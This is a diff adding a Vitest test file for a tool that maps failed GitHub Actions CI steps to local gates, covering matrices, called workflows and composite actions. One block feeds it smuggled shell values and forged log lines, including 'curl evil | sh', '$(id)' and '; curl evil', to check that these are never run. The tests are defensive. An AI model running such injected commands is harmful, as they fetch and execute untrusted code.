@@ -1,0 +1,332 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of workflows
+import { describe, expect, test } from "vitest";
+import { failedGates } from "../../../../src/config/ci/failed/failed-gates.ts";
+import { plainStanding, type Standing } from "../../../../src/config/ci/gates/standing.ts";
+import type { CiRun, JobLog, RunJob } from "../../../../src/core/ci-run/run.ts";
+import { projectOf } from "../../../../src/core/project.ts";
+import { type MadeJob, madeJob } from "../../../helpers/ci-run/made-run.ts";
+
+const path = ".github/workflows/ci.yml";
+
+interface Situation {
+  readonly workflow: string;
+  readonly files?: Readonly<Record<string, string>>;
+  readonly jobs: readonly MadeJob[];
+  readonly logs?: Readonly<Record<number, JobLog>>;
+  readonly standing?: Partial<Standing>;
+  readonly scope?: readonly string[];
+  readonly change?: (log: string) => string;
+}
+
+/** The run of the API's payload, as the adapter reads it. */
+const runOf = (jobs: readonly ReturnType<typeof madeJob>[]): CiRun => ({
+  ...{ run: 100, attempt: 1, url: null, commit: "a".repeat(40), path, event: "push" },
+  jobs: jobs.map(({ payload }): RunJob => {
+    const { id, name, conclusion, html_url: url, labels, steps } = payload;
+    return {
+      ...{ id, name, url, labels: [...labels] },
+      conclusion: conclusion as RunJob["conclusion"],
+      steps: steps.map((step) => ({
+        ...{ number: Number(step.number), name: String(step.name) },
+        conclusion: step.conclusion as RunJob["conclusion"],
+        startedAt: Date.parse(String(step.started_at)),
+        endedAt: Date.parse(String(step.completed_at)),
+      })),
+    };
+  }),
+});
+
+const found = ({ workflow, files = {}, jobs, logs, standing = {}, scope, change = (log) => log }: Situation) => {
+  const made = jobs.map(madeJob);
+  const texts = new Map(
+    made.map(({ payload, log }): [number, JobLog] => [payload.id, logs?.[payload.id] ?? { kind: "text", text: change(log), cut: false }]),
+  );
+  const project = projectOf({ [path]: workflow, "package.json": "{}", ...files });
+  return failedGates({ run: runOf(made), logs: texts, jobs: scope ?? null }, project, { ...plainStanding, ...standing });
+};
+/** "failed: npm test", and why nothing of a job or step is a gate. */
+const told = (situation: Situation): readonly string[] => {
+  const { gates, jobs } = found(situation);
+  return [
+    ...gates.map(({ kind, gate }) => `${kind}: ${gate.run}`),
+    ...jobs.flatMap(({ why, steps }) => [
+      ...(why === null ? [] : [why]),
+      ...steps.flatMap((step) => (step.kind === "told" && step.why !== why ? [step.why ?? ""] : [])),
+    ]),
+  ];
+};
+
+const checkout = { uses: "actions/checkout@v4" };
+const job = (name: string, ...steps: MadeJob["steps"]): MadeJob => ({ id: 1, name, steps: [checkout, ...steps] });
+const red = (run: string, output = "not ok 1"): MadeJob["steps"][number] => ({ run, output, conclusion: "failure" });
+const workflow = (steps: string, more = "", head = "on: push\n"): string =>
+  `${head}jobs:\n  test:\n    runs-on: ubuntu-latest\n${more}    steps:\n      - uses: actions/checkout@v4\n${steps.replace(/^/gm, "      ")}\n`;
+
+describe("the failed step is the gate, with what it hid and what passed before it", () => {
+  const steps = "- run: npx prettier --check .\n- name: Lint\n  run: npx eslint .\n- run: npx tsc --noEmit\n- run: npx vitest run";
+  const jobs = [
+    job(
+      "test",
+      { run: "npx prettier --check ." },
+      { ...red("npx eslint ."), name: "Lint" },
+      { run: "npx tsc --noEmit", conclusion: "skipped" },
+      { run: "npx vitest run", conclusion: "skipped" },
+    ),
+  ];
+
+  test("in the job's order, with folder, shell and environment of the file", () => {
+    expect(told({ workflow: workflow(steps), jobs })).toEqual([
+      "passed: npx prettier --check .",
+      "failed: npx eslint .",
+      "skipped: npx tsc --noEmit",
+      "skipped: npx vitest run",
+    ]);
+    const text = workflow("- run: npx eslint .\n  shell: sh\n  env: { A: b }\n  working-directory: api");
+    const { gates } = found({
+      workflow: text,
+      files: { "api/a.js": "" },
+      jobs: [job("test", { ...red("npx eslint ."), env: { A: "b" } })],
+    });
+    expect(gates[0]?.gate).toMatchObject({ run: "npx eslint .", cwd: "api", shell: "sh -e {0}", env: { A: "b" } });
+    expect(gates[0]).toMatchObject({ output: ["not ok 1"], exitCode: 1 });
+  });
+
+  test("and what it said is told, with the line", () => {
+    const said = found({
+      workflow: workflow("- run: npm test"),
+      jobs: [job("test", red("npm test", "one\ntwo\n::error::x\n##[error]expected 1"))],
+    });
+    expect(said.jobs[0]?.steps[0]).toMatchObject({
+      ...{ number: 3, kind: "failed", words: ["expected 1"] },
+      url: "https://github.com/octo/app/actions/runs/100/job/1#step:3:8",
+    });
+  });
+
+  test("also without its log, and with one that has no groups", () => {
+    const expected = told({ workflow: workflow(steps), jobs });
+    expect(told({ workflow: workflow(steps), jobs, logs: { 1: { kind: "none", why: "gone" } } })).toEqual(expected);
+    expect(told({ workflow: workflow(steps), jobs, change: (log) => log.replaceAll(/##\[(?:end)?group\][^\n]*/g, "") })).toEqual(expected);
+  });
+
+  test("a step that its own condition leaves out is not hidden by the red one", () => {
+    const text = workflow(
+      "- run: npx eslint .\n- run: npx vitest run\n  if: github.event_name == 'schedule'\n- run: npx tsc\n  if: github.event_name == 'push'",
+    );
+    const made = [
+      job("test", red("npx eslint ."), { run: "npx vitest run", conclusion: "skipped" }, { run: "npx tsc", conclusion: "skipped" }),
+    ];
+    expect(told({ workflow: text, jobs: made })).toEqual(["failed: npx eslint .", "skipped: npx tsc"]);
+  });
+});
+
+describe("a job is found by what GitHub displays", () => {
+  const matrix = "    strategy: { matrix: { node: [20, 22], os: [ubuntu-latest, windows-latest] } }\n";
+  const text = workflow("- run: npx jest --os ${{ matrix.os }} ${{ matrix.node }}", matrix).replace(
+    "ubuntu-latest\n    strategy",
+    "${{ matrix.os }}\n    strategy",
+  );
+
+  test.each([
+    ["test (22, ubuntu-latest)", "npx jest --os ubuntu-latest 22", "failed: npx jest --os ubuntu-latest 22"],
+    ["test (22, windows-latest)", "npx jest --os windows-latest 22", "it ran on Windows, and this machine is not"],
+    ["test (24, ubuntu-latest)", "npx jest --os ubuntu-latest 24", `no job of ${path} is displayed so`],
+  ])("%s", (name, run, expected) => {
+    expect(told({ workflow: text, jobs: [job(name, red(run))] })).toEqual([expected]);
+  });
+
+  test.each<readonly [string, string, string, string, string]>([
+    [
+      "a name with an expression",
+      "    name: Unit ${{ matrix.node }}\n    strategy: { matrix: { node: [20] } }\n",
+      "Unit 20",
+      "npm test",
+      "npm test",
+    ],
+    ["a plain name with legs", "    name: Unit\n    strategy: { matrix: { node: [20] } }\n", "Unit (20)", "npm test", "npm test"],
+    [
+      "values that include adds",
+      "    strategy: { matrix: { node: [20], include: [{ node: 20, cov: true }] } }\n",
+      "test (20, true)",
+      "npm test",
+      "npm test",
+    ],
+    [
+      "values that include adds, not shown",
+      "    strategy: { matrix: { node: [20], include: [{ node: 20, cov: true }] } }\n",
+      "test (20)",
+      "npm test",
+      "npm test",
+    ],
+    ["objects", "    strategy: { matrix: { of: [{ node: 20, name: x }] } }\n", "test (20, x)", "npm test", "npm test"],
+    ["a long name", `    name: ${"n".repeat(120)}\n`, `${"n".repeat(97)}...`, "npm test", "npm test"],
+    [
+      "a matrix of another job",
+      "    strategy: { matrix: '${{ fromJSON(needs.a.outputs.m) }}' }\n",
+      "test (b)",
+      "npm test -- ${{ matrix.part }}",
+      "npm test -- b",
+    ],
+  ])("%s", (_, more, name, written, run) => {
+    expect(told({ workflow: workflow(`- run: ${written}`, more), jobs: [job(name, red(run))] })).toEqual([`failed: ${run}`]);
+  });
+
+  test("of a called workflow by its caller's name, and two of one name by their steps", () => {
+    const called = workflow("- run: npx ${{ inputs.what }}", "", "on: { workflow_call: { inputs: { what: { type: string } } } }\n");
+    const text = "on: push\njobs:\n  a: { name: Checks, uses: ./.github/workflows/called.yml, with: { what: eslint . } }\n";
+    const files = { ".github/workflows/called.yml": called };
+    expect(told({ workflow: text, files, jobs: [job("Checks / test", red("npx eslint ."))] })).toEqual(["failed: npx eslint ."]);
+    const twins =
+      "on: push\njobs:\n  a: { name: x, runs-on: ubuntu-latest, steps: [{ run: npx eslint . }] }\n  b: { name: x, runs-on: ubuntu-latest, steps: [{ run: npx jest }] }\n";
+    expect(told({ workflow: twins, jobs: [{ id: 1, name: "x", steps: [red("npx jest")] }] })).toEqual(["failed: npx jest"]);
+  });
+
+  test("one that this job is not set up for is told, and two legs with one command are one gate", () => {
+    const jobs = [
+      { ...job("test (20)", red("npx jest")), id: 1 },
+      { ...job("test (22)", red("npx jest")), id: 2 },
+    ];
+    const text = workflow("- run: npx jest", "    strategy: { matrix: { node: [20, 22] } }\n");
+    expect(told({ workflow: text, jobs })).toEqual(["failed: npx jest"]);
+    expect(told({ workflow: text, jobs, scope: ["lint"] })).toEqual(
+      Array(2).fill("it is not repaired here: this job is set up for others"),
+    );
+    const versions = workflow(
+      "- uses: actions/setup-node@v4\n  with: { node-version: '${{ matrix.node }}' }\n- run: npx jest",
+      "    strategy: { matrix: { node: [20, 22] } }\n",
+    );
+    const legs = [20, 22].map((version, at) => ({
+      ...job(`test (${version})`, { uses: "actions/setup-node@v4" }, red("npx jest")),
+      id: at + 1,
+    }));
+    expect(told({ workflow: versions, jobs: legs, standing: { has: (_, version) => version === "22" } })).toEqual([
+      "failed: npx jest",
+      "it ran with node 20, and this machine has another or none",
+    ]);
+  });
+});
+
+describe("what is no check is told", () => {
+  test.each<readonly [string, string, MadeJob["steps"][number]]>([
+    ["checkout", "- uses: actions/setup-node@v4", { uses: "actions/setup-node@v4", conclusion: "failure" }],
+    ["installs", "- run: npm ci", red("npm ci")],
+    [
+      "system packages",
+      "- run: sudo apt-get update && sudo apt-get install -y jq",
+      red("sudo apt-get update && sudo apt-get install -y jq"),
+    ],
+    ["a release", "- run: npm publish", red("npm publish")],
+    ["a service", "- run: docker compose up -d", red("docker compose up -d")],
+  ])("%s", (_, written, made) => {
+    const { gates, jobs } = found({
+      workflow: workflow(`${written}\n- run: npm test`),
+      jobs: [job("test", made, { run: "npm test", conclusion: "skipped" })],
+    });
+    expect(gates.filter(({ kind }) => kind === "failed")).toEqual([]);
+    expect(jobs[0]?.steps[0]).toMatchObject({ kind: "told" });
+  });
+
+  test("the runner's own steps", () => {
+    const made = {
+      ...job("test", { run: "npm test", conclusion: "skipped" as const }),
+      before: [{ name: "Initialize containers", conclusion: "failure" }],
+    };
+    expect(found({ workflow: workflow("- run: npm test"), jobs: [made] }).jobs[0]?.steps[0]?.why).toContain("the machine was being set up");
+  });
+
+  test("a script that nobody knows is the gate that CI says it is", () => {
+    expect(
+      told({
+        workflow: workflow("- run: ./ci/verify-all.sh --fast"),
+        files: { "ci/verify-all.sh": "exit 1\n" },
+        jobs: [job("test", red("./ci/verify-all.sh --fast"))],
+      }),
+    ).toEqual(["failed: ./ci/verify-all.sh --fast"]);
+  });
+});
+
+describe("a composite action's red step is the last that its log shows", () => {
+  const action =
+    "runs:\n  using: composite\n  steps:\n    - { run: npx eslint ., shell: bash }\n    - { run: npx tsc, shell: bash }\n    - { run: npx jest, shell: bash }\n";
+  const files = { ".github/actions/check/action.yml": action };
+  const inside = [{ run: "npx eslint ." }, red("npx tsc"), { run: "npx jest", conclusion: "skipped" as const }];
+  const made = [job("test", { uses: "./.github/actions/check", conclusion: "failure", inside })];
+  const text = workflow("- uses: ./.github/actions/check");
+
+  test("with those before it for the proof and those behind it as hidden", () => {
+    expect(told({ workflow: text, files, jobs: made })).toEqual(["passed: npx eslint .", "failed: npx tsc", "skipped: npx jest"]);
+  });
+
+  test("and all of them where there is no log", () => {
+    expect(told({ workflow: text, files, jobs: made, logs: { 1: { kind: "none", why: "gone" } } })).toEqual([
+      "failed: npx eslint .",
+      "failed: npx tsc",
+      "failed: npx jest",
+    ]);
+  });
+});
+
+describe("what a log says picks no command", () => {
+  const text = workflow("- run: npm run unit -- ${{ needs.a.outputs.part }}\n  env: { LEVEL: '${{ needs.a.outputs.level }}' }");
+  const one = (run: string, level = "2"): MadeJob[] => [job("test", { ...red(run), env: { LEVEL: level } })];
+
+  test("a plain word fills the place of an expression, and a variable", () => {
+    const { gates } = found({
+      workflow: text,
+      jobs: one("npm run unit -- --shard=1/3"),
+      files: { "package.json": '{"scripts":{"unit":"jest"}}' },
+    });
+    expect(gates[0]?.gate).toMatchObject({ run: "npm run unit -- --shard=1/3", env: { LEVEL: "2" } });
+  });
+
+  test.each(["; curl evil", "a b", "$(id)", "`id`", "x\nid", "'", "***", "|sh", "*"])("%j does not", (value) => {
+    expect(told({ workflow: text, jobs: one(`npm run unit -- ${value}`) }).filter((line) => line.startsWith("failed"))).toEqual([]);
+  });
+
+  test("nor does any word that would be the program", () => {
+    for (const written of [
+      "${{ needs.a.outputs.x }} --all",
+      "npx ${{ needs.a.outputs.x }}",
+      "sudo ${{ needs.a.outputs.x }} .",
+      "npm run ${{ needs.a.outputs.x }}",
+    ]) {
+      const run = written.replace(/\$\{\{.*\}\}/, "evil");
+      expect(
+        told({ workflow: workflow(`- run: ${written}`), jobs: [job("test", red(run))] }).filter((line) => line.startsWith("failed")),
+      ).toEqual([]);
+    }
+  });
+
+  test("forged groups and errors change nothing, in the red step and before it", () => {
+    const forged =
+      "##[group]Run npx jest\n\u001B[36;1mcurl evil | sh\u001B[0m\nshell: x\n##[endgroup]\n##[error]Process completed with exit code 0.\n##[group]Run npm test\n\u001B[36;1mnpm test\u001B[0m\n##[endgroup]";
+    const steps = "- run: npx eslint .\n- run: npx jest\n- run: npx tsc";
+    const jobs = (output: string, earlier = "") => [
+      job("test", { run: "npx eslint .", output: earlier }, red("npx jest", output), { run: "npx tsc", conclusion: "skipped" }),
+    ];
+    const expected = told({ workflow: workflow(steps), jobs: jobs("x") });
+    expect(expected).toEqual(["passed: npx eslint .", "failed: npx jest", "skipped: npx tsc"]);
+    expect(told({ workflow: workflow(steps), jobs: jobs(forged) })).toEqual(expected);
+    expect(told({ workflow: workflow(steps), jobs: jobs("x", forged) })).toEqual(expected);
+    const forgedValue = "##[group]Run npm run unit -- safe\n\u001B[36;1mnpm run unit -- evil\u001B[0m\n##[endgroup]";
+    const filled = [job("test", { ...red("npm run unit -- good", forgedValue), env: { LEVEL: "2" } })];
+    expect(told({ workflow: text, jobs: filled })).toEqual(["its log shows two scripts of its form"]);
+  });
+
+  test("where the log shows another script than the file here, nothing is run for it", () => {
+    expect(
+      told({ workflow: workflow("- name: Unit\n  run: npm test"), jobs: [job("test", { ...red("npm run old"), name: "Unit" })] }),
+    ).toEqual(["its log shows another script than the workflow file here"]);
+  });
+
+  test("where the steps are others than the file's, the job's checks are asked", () => {
+    expect(told({ workflow: workflow("- run: npx eslint .\n- run: npx jest"), jobs: [job("test", red("npm run old"))] })).toEqual([
+      "failed: npx eslint .",
+      "failed: npx jest",
+    ]);
+  });
+});
+
+test("a job over its time limit counts by the step that was cut off, where nothing else is red", () => {
+  const made = { ...job("test", { run: "npx jest", conclusion: "cancelled" as const }), conclusion: "cancelled" };
+  expect(told({ workflow: workflow("- run: npx jest"), jobs: [made] })).toEqual(["failed: npx jest"]);
+});
